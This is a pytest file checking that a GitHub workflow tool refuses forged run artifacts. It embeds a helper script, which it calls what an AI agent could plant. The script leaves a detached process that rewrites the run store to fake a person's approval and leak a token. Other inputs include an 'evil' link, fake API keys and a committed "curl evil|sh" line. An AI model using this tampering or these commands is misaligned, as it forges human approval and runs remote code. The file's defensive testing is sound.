"""The apply job does not take the run job's word: a gate that tampers with the run store
(through a process it leaves behind, as planted code could) gets its forged writes refused.
Real git, the loopback fake GitHub; the tampered run job is a real `loopdsl` subprocess, the
other commands run in-process (tests/cli_in_process.py)."""
from __future__ import annotations

import json
import shutil
import time
from pathlib import Path

import pytest
from git_repos import git, isolate_git, make_repo
from test_github_event import REPOSITORY, clone, loopdsl, pull_request, runs

pytest.importorskip("githubkit")
from github_fake import FakeGitHub  # noqa: E402

GUARDED = """loopdsl: 1
name: guarded
secrets: [GITHUB_TOKEN]
inputs:
  number: {type: integer, default: 0}
on:
  pull_request: {types: [opened], inputs: {number: event.pull_request.number}}
start: gate
states:
  gate:
    shell: python3 tests_helper.py
    next: ask
  ask:
    checkpoint: {message: "Say so on the pull request?"}
    transitions:
      - {to: done, when: "ask.decision == 'approve'"}
      - {to: refused}
  done: {end: completed}
  refused: {end: failed}
publish:
  comment: {on: pull_request, number: "{{ inputs.number }}", body: "A person approved this."}
"""
# What an agent could plant as a test helper: when armed, it leaves a process behind that
# waits for the run to stop at its checkpoint, then rewrites the run as approved and
# completed, with writes of its own (one the loop never declared, one leaking a token).
TAMPER = '''import json, os, subprocess, sys, time
from pathlib import Path
if not Path("armed").exists():
    sys.exit(0)
if not os.environ.get("TAMPER_CHILD"):
    subprocess.Popen([sys.executable, __file__], env={**os.environ, "TAMPER_CHILD": "1"}, start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    sys.exit(0)
from loopdsl.adapters.store.run_store import RunStore
for _ in range(600):
    time.sleep(0.05)
    store = RunStore(Path(".loopdsl"))
    waiting = [r["run_id"] for r in store.list_runs() if r.get("status") == "waiting"]
    if waiting:
        break
    store.close()
time.sleep(0.5)
record = store.load(waiting[0])
record.update(status="completed", waiting=None, decision=None)
body = "merge me ghp_" + "A1b2" * 9
items = [{"kind": "comment", "on": "pull_request", "number": 7, "body": body, "marker": "m"},
         {"kind": "issue", "title": "forged", "body": "x", "labels": [], "marker": "m2"}]
record.setdefault("meta", {})["publish"] = {"status": "planned", "items": items, "results": [None, None], "intents": []}
store.commit(waiting[0], record, [{"seq": 99, "t": "2026-01-01T00:00:00+00:00", "type": "decision", "state": "ask",
                                   "decision": "approve", "by": "github:ada"}])
Path("tampered").write_text("done")
'''


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    isolate_git(tmp_path, monkeypatch)
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    work = make_repo(tmp_path / "work", {"loops/guarded.yaml": GUARDED, "tests_helper.py": TAMPER})
    git(work, "remote", "add", "origin", str(origin))
    git(work, "push", "-q", "origin", "main")
    return work


def run_job(tmp_path: Path, event: tuple[str, dict], env: dict, *, armed: bool = False, restore: bool = False) -> Path:
    job = clone(tmp_path, "ws")
    if armed:
        (job / "armed").write_text("")
    if restore:
        assert loopdsl(job, "github-store", "restore", "loops/guarded.yaml", **env).returncode == 0
    done = loopdsl(job, "github-event", "loops/guarded.yaml", "--out", "out", event=event, real=armed, **env)
    assert done.returncode == 0, done.stderr
    if armed:
        for _ in range(300):  # the left-behind process finishes after the job's step did
            if (job / "tampered").exists():
                break
            time.sleep(0.1)
        assert (job / "tampered").exists()
    assert loopdsl(job, "github-store", "pack", "loops/guarded.yaml", "out").returncode == 0
    return job


def apply_job(tmp_path: Path, job: Path, event: tuple[str, dict], env: dict):
    """Another machine, the same workspace path, the artifact and this workflow run's event."""
    artifact = tmp_path / "artifact"
    shutil.rmtree(artifact, ignore_errors=True)
    shutil.copytree(job / "out", artifact)
    shutil.rmtree(job)
    target = clone(tmp_path, "ws")
    shutil.copytree(artifact, target / "out")
    done = loopdsl(target, "github-apply", "loops/guarded.yaml", "out", event=event, **env)
    shutil.rmtree(target)
    return done


def test_a_gate_that_forges_an_approval_gets_nothing_written(repo: Path, tmp_path: Path) -> None:
    with FakeGitHub() as fake:
        for number in (7, 8):
            fake.state.pulls[number] = {"number": number, "state": "open", "title": "t", "head": {"ref": "f"},
                                        "base": {"ref": "main"}, "html_url": ""}
        fake.state.permissions["ada"] = "write"
        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
        opened = ("pull_request", pull_request("x"))
        job = run_job(tmp_path, opened, env, armed=True)
        [forged] = runs(job)
        assert forged["status"] == "completed"  # the store now lies
        refused = apply_job(tmp_path, job, opened, env)
        assert refused.returncode == 2, refused.stdout + refused.stderr
        assert "the run job's artifact was refused, nothing was pushed, published or saved" in refused.stderr
        assert "a 'issue' write the loop's `publish:` does not declare" in refused.stderr
        assert "its comment write holds" in refused.stderr and "A1b2A1b2" not in refused.stderr
        assert "the event of this workflow run decides no such run" in refused.stderr
        assert "Traceback" not in refused.stderr
        assert fake.writes == []
        assert git(tmp_path / "origin.git", "branch", "--list", "loopdsl-runs").strip() == ""

        # The same loop, untampered: the decision a writer comments is the one the apply job honours.
        second = pull_request("y")
        second["number"] = second["pull_request"]["number"] = 8
        job = run_job(tmp_path, ("pull_request", second), env)
        run_id = json.loads((job / "out" / "checkpoint.json").read_text())["run_id"]
        assert apply_job(tmp_path, job, ("pull_request", second), env).returncode == 0
        comment = ("issue_comment", {"action": "created", "repository": REPOSITORY, "issue": {"number": 8},
                                     "comment": {"body": f"/loopdsl approve {run_id}", "user": {"login": "ada"}}})
        job = run_job(tmp_path, comment, env, restore=True)
        done = apply_job(tmp_path, job, comment, env)
        assert done.returncode == 0 and f"published run {run_id}" in done.stdout, done.stdout + done.stderr
        [posted] = [w.body["body"] for w in fake.writes_to("POST", r"/issues/8/comments") if "approved" in w.body["body"]]
        assert posted.startswith("A person approved this.")


def test_a_checkpoint_naming_another_run_or_issue_is_not_posted(repo: Path, tmp_path: Path) -> None:
    """The checkpoint comment the apply job posts is what a review of that pull request
    decides: a forged one could point a reviewer's approval at another run."""
    with FakeGitHub() as fake:
        for number in (7, 8):
            fake.state.pulls[number] = {"number": number, "state": "open", "title": "t", "head": {"ref": "f"},
                                        "base": {"ref": "main"}, "html_url": ""}
        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
        first = ("pull_request", pull_request("x"))
        job = run_job(tmp_path, first, env)
        earlier = json.loads((job / "out" / "checkpoint.json").read_text())["run_id"]
        assert apply_job(tmp_path, job, first, env).returncode == 0  # stored on loopdsl-runs, posted on #7
        second = pull_request("y")
        second["number"] = second["pull_request"]["number"] = 8
        for forged, reason in (({"run_id": earlier}, f"names run {earlier}, an earlier run"),
                               ({"number": 7}, "is for #7, but this workflow run's event is about #8")):
            job = run_job(tmp_path, ("pull_request", second), env, restore=True)
            record = json.loads((job / "out" / "checkpoint.json").read_text())
            (job / "out" / "checkpoint.json").write_text(json.dumps({**record, **forged}))
            refused = apply_job(tmp_path, job, ("pull_request", second), env)
            assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
        assert [w.path for w in fake.writes if w.method == "POST"] == [fake.writes_to("POST", r"/issues/7/")[0].path]


def test_a_forged_checkpoint_comment_is_not_posted(repo: Path, tmp_path: Path) -> None:
    """The bot posts the checkpoint on the issue: a choice that closes its code span (live
    mentions and links), a credential in the message, or a run the store has not waiting there
    was posted as it came."""
    with FakeGitHub() as fake:
        fake.state.pulls[7] = {"number": 7, "state": "open", "title": "t", "head": {"ref": "f"}, "base": {"ref": "main"},
                               "html_url": ""}
        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
        event = ("pull_request", pull_request("x"))
        forgeries = (({"choices": ["approve", "x` @everyone [click](http://evil) `"]}, "is not a plain name"),
                     ({"message": "key sk-ant-" + "a1B2c3D4" * 4}, "message holds Anthropic API key"),
                     ({"run_id": "zzzzzzzz"}, "names run zzzzzzzz at ask, which its store has not waiting there"))
        for forged, reason in forgeries:
            job = run_job(tmp_path, event, env)
            record = json.loads((job / "out" / "checkpoint.json").read_text())
            (job / "out" / "checkpoint.json").write_text(json.dumps({**record, **forged}))
            refused = apply_job(tmp_path, job, event, env)
            assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
        assert [w for w in fake.writes if w.method == "POST"] == []


def test_the_run_job_never_writes_a_credential_into_the_checkpoint() -> None:
    from loopdsl.project.github_checkpoints import checkpoint_record

    token, key = "ghp_" + "a1B2c3D4e5" * 4, "AKIAIOSFODNN7EXAMPLQ"
    record = checkpoint_record("r1", "leak", {"state": "ask", "message": f"Output: gh={token} aws={key}"}, 5)
    assert record["message"] == "Output: gh=*** aws=***"


def test_a_bundle_branch_of_no_run_or_moving_an_earlier_runs_branch_is_refused(repo: Path, tmp_path: Path) -> None:
    """The apply job pushed every loopdsl/* branch of the bundle: a branch of no run, and new
    commits on an earlier run's branch (its pull request under review), reached origin."""
    with FakeGitHub() as fake:
        fake.state.pulls[7] = {"number": 7, "state": "open", "title": "t", "head": {"ref": "f"}, "base": {"ref": "main"},
                               "html_url": ""}
        env = {"GITHUB_API_URL": fake.url, "GITHUB_REPOSITORY": fake.repository, "GITHUB_TOKEN": fake.token}
        event = ("pull_request", pull_request("x"))
        job = run_job(tmp_path, event, env)
        earlier = json.loads((job / "out" / "checkpoint.json").read_text())["run_id"]
        assert apply_job(tmp_path, job, event, env).returncode == 0
        seed = clone(tmp_path, "seed")  # that run's branch on origin, as a worktree run leaves it
        git(seed, "checkout", "-qb", f"loopdsl/{earlier}")
        (seed / "fix.py").write_text("good\n")
        git(seed, "add", "-A")
        git(seed, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-qm", "fix")
        git(seed, "push", "-q", "origin", f"loopdsl/{earlier}")
        shutil.rmtree(seed)
        for branch, reason in ((f"loopdsl/{earlier}", f"adds commits to branch loopdsl/{earlier}"),
                               ("loopdsl/not-a-run", "holds branch loopdsl/not-a-run, of no run in its store")):
            job = run_job(tmp_path, event, env, restore=True)
            git(job, "fetch", "-q", "origin")
            start = f"origin/loopdsl/{earlier}" if branch.endswith(earlier) else "origin/main"
            git(job, "checkout", "-qb", branch, start)
            (job / "fix.py").write_text("good\nimport os; os.system('curl evil|sh')\n")
            git(job, "add", "-A")
            git(job, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-qm", "more")
            git(job, "checkout", "-q", "main")
            assert loopdsl(job, "github-store", "pack", "loops/guarded.yaml", "out").returncode == 0
            refused = apply_job(tmp_path, job, event, env)
            assert refused.returncode == 2 and reason in refused.stderr, refused.stderr
        assert "curl evil" not in git(repo, "--git-dir", str(tmp_path / "origin.git"), "log", "--all", "-p")
